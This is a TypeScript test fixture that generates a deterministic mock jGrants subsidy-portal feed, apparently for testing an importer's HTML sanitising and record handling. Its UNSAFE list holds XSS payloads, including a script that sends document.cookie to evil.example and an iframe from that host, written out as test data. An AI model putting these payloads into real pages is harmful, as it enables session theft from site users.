/**
 * The recorded jGrants feed (server/src/test/fixtures/jgrants-feed.json): a list response of the
 * public API whose items carry the detail fields, as `npm run import -- jgrants <address> --save`
 * writes one. Made deterministically from recorded-programs.ts, so it is the same on every run;
 * recorded-feed.test.ts checks the committed file against it (`UPDATE_RECORDED=1` rewrites it).
 * It holds what an import must cope with: HTML with scripts and handlers to strip, base64 PDFs,
 * jGrants regions, and one record whose area the portal cannot place (「海外」).
 */
import { PREFECTURES } from '@portal/shared';
import type { JGrantsResponse, JGrantsSubsidy } from '../../modules/import/jgrants/jgrants-record';
import { Random } from '../../seed/corpus/random';
import { LOCAL_PROGRAMS, MUNICIPAL_BODIES, NATIONAL_PROGRAMS, type ProgramTemplate } from './recorded-programs';
import { tinyPdf } from './tiny-pdf';

/** The day the feed was recorded (JST); windows are placed around it. */
export const RECORDED_ON = '2026-11-30';
const DAY_MS = 86_400_000;
const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';

/** A JST wall-clock time as the API writes it (UTC, milliseconds, Z). */
function apiTime(day: number, hhmm: string): string {
  const [h, m] = hhmm.split(':').map(Number) as [number, number];
  return new Date(day * DAY_MS + (h - 9) * 3_600_000 + m * 60_000).toISOString();
}

const dayOf = (date: string) => Math.floor(Date.parse(`${date}T00:00:00Z`) / DAY_MS);
const yen = (value: number) => String(value).replace(/\B(?=(\d{3})+(?!\d))/g, ',');

/** 令和 year of a fiscal year starting in `year` (令和1 = 2019). */
const reiwa = (year: number) => year - 2018;

type Phase = 'closed' | 'open' | 'next-year' | 'any';

function windowOf(random: Random, today: number, phase: Phase) {
  if (phase === 'next-year') {
    const start = dayOf('2027-04-01') + random.int(0, 45);
    return { start, end: start + random.int(30, 75) };
  }
  if (phase === 'closed') {
    const end = dayOf('2026-03-31') - random.int(0, 300);
    return { start: end - random.int(30, 90), end };
  }
  const roll = phase === 'open' ? 0.5 : random.next();
  if (roll < 0.25) {
    const end = today - random.int(10, 500);
    return { start: end - random.int(30, 90), end };
  }
  if (roll < 0.85) return { start: today - random.int(0, 60), end: today + random.int(3, 120) };
  const start = today + random.int(5, 90);
  return { start, end: start + random.int(30, 60) };
}

const UNSAFE = [
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="x" onerror="alert(1)">',
  '<p style="color:red" onclick="steal()">【重要】申請前に必ず事前相談を行ってください。</p>',
  '<a href="javascript:void(0)" onclick="steal()">申請はこちら</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
];

function detailHtml(template: ProgramTemplate, title: string, url: string, unsafe: boolean): string {
  const max = template.maxYen > 0 ? `${yen(template.maxYen)}円` : '定額（要領参照）';
  return [
    `<p>${template.catchPhrase}するため、${template.institution}は「${title}」の公募を行います。</p>`,
    '<p><strong>補助対象経費</strong></p>',
    `<ul>${template.costs.map((cost) => `<li>${cost}</li>`).join('')}</ul>`,
    `<p>補助率：${template.rate}<br>補助上限額：${max}</p>`,
    ...(unsafe ? UNSAFE : []),
    `<p>詳しくは<a href="${url}" target="_blank">公募ページ</a>の公募要領をご確認ください。</p>`,
  ].join('\n');
}

function record(random: Random, index: number, template: Phased, today: number): JGrantsSubsidy {
  const id = `a0W${Array.from({ length: 15 }, () => random.pick([...BASE62])).join('')}`;
  const { start, end } = windowOf(random, today, template.phase ?? 'any');
  const startDate = new Date(start * DAY_MS);
  const fiscalYear = startDate.getUTCFullYear() - (startDate.getUTCMonth() < 3 ? 1 : 0);
  const title = `令和${reiwa(fiscalYear)}年度 ${template.title}`;
  const url = `https://www.jgrants-portal.go.jp/subsidy/${id}`;
  return {
    id,
    name: `S-${String(10_000 + index * 37).padStart(8, '0')}`,
    title,
    institution_name: template.institution,
    target_area_search: template.area,
    subsidy_max_limit: template.maxYen,
    acceptance_start_datetime: apiTime(start, random.pick(['00:00', '09:00', '10:00'])),
    acceptance_end_datetime: apiTime(end, random.pick(['17:00', '23:59', '12:00'])),
    target_number_of_employees: template.employees,
    subsidy_catch_phrase: template.catchPhrase,
    detail: detailHtml(template, title, url, index % 17 === 5),
    use_purpose: template.purposes.join(' / '),
    industry: template.industries.join(' / '),
    target_area_detail: template.area === '全国' ? '全国' : `${template.area}内に事業所を有する事業者`,
    subsidy_rate: template.rate,
    project_end_deadline: apiTime(end + random.int(150, 300), '23:59'),
    request_reception_presence: '有',
    is_enable_multiple_request: random.chance(0.3),
    front_subsidy_detail_page_url: url,
  };
}

/** Regional calls of the 経済産業局, filed under jGrants' regions. */
const REGIONAL: readonly ProgramTemplate[] = [
  ['経済産業省関東経済産業局', '関東・甲信越地方'],
  ['経済産業省九州経済産業局', '九州・沖縄地方'],
  ['経済産業省近畿経済産業局', '近畿地方'],
  ['経済産業省東北経済産業局', '東北地方 / 北海道地方'],
].map(([institution, area]) => ({
  ...NATIONAL_PROGRAMS[2]!,
  institution: institution!,
  area: area!,
  title: `地域未来投資促進事業（${area!.split(' / ')[0]}）`,
}));

/** Refused on import: the portal has no area for 「海外」, and a record is never filed under a guess. */
const OVERSEAS: ProgramTemplate = {
  ...NATIONAL_PROGRAMS[3]!,
  institution: '独立行政法人日本貿易振興機構',
  title: '海外展開スタートアップ支援事業（現地法人向け）',
  catchPhrase: '海外の現地法人による市場開拓を支援',
  area: '全国 / 海外',
};

type Phased = ProgramTemplate & { phase?: Phase };

function templates(): Phased[] {
  // Each national call three times: last fiscal year's (closed), this year's (open), next year's (announced).
  const national = (['closed', 'open', 'next-year'] as const).flatMap((phase) =>
    NATIONAL_PROGRAMS.map((program) => ({ ...program, phase })),
  );
  const prefectural = PREFECTURES.flatMap((prefecture, i) =>
    [LOCAL_PROGRAMS[i % LOCAL_PROGRAMS.length]!, LOCAL_PROGRAMS[(i + 3) % LOCAL_PROGRAMS.length]!].map((local) => ({
      ...local,
      institution: prefecture.name,
      area: prefecture.name,
      title: `${prefecture.name}${local.title}`,
      catchPhrase: local.catchPhrase.replace('県内', `${prefecture.name}内`),
    })),
  );
  const municipal = MUNICIPAL_BODIES.flatMap((body, i) =>
    [0, 4, 7].slice(0, 2 + (i % 2)).map((offset) => {
      const local = LOCAL_PROGRAMS[(i + offset) % LOCAL_PROGRAMS.length]!;
      return {
        ...local,
        institution: body.name,
        area: body.prefecture,
        title: `${body.name}${local.title}`,
        catchPhrase: local.catchPhrase.replace('県内', `${body.name}内`).replace('地域で', `${body.name}で`),
        maxYen: Math.round(local.maxYen / 2),
      };
    }),
  );
  return [...national, ...REGIONAL, ...prefectural, ...municipal, OVERSEAS];
}

const pdf = (name: string, lines: string[]) => ({ name, data: tinyPdf(lines).toString('base64') });

export function recordedFeed(): JGrantsResponse {
  const random = new Random(20261130);
  const today = dayOf(RECORDED_ON);
  const result = templates().map((template, index) => record(random, index, template, today));
  // Three records carry their documents inline, as the detail API sends them.
  result[0]!.application_guidelines = [
    pdf('公募要領.pdf', ['IT Donyu Hojokin - Koubo Youryou', 'Guideline keyword: kanrishisutemu-kouboyouryou']),
  ];
  result[2]!.application_guidelines = [
    pdf('公募要領（第1次）.pdf', ['Monodukuri Hojokin - Koubo Youryou', 'Guideline keyword: seisanseikoujou']),
    pdf('よくある質問.pdf', ['FAQ for applicants']),
  ];
  result[6]!.outline_of_grant = [pdf('交付要綱.pdf', ['Kofu Youkou of the energy saving programme'])];
  return { metadata: { type: 'application/json', resultset: { count: result.length } }, result };
}
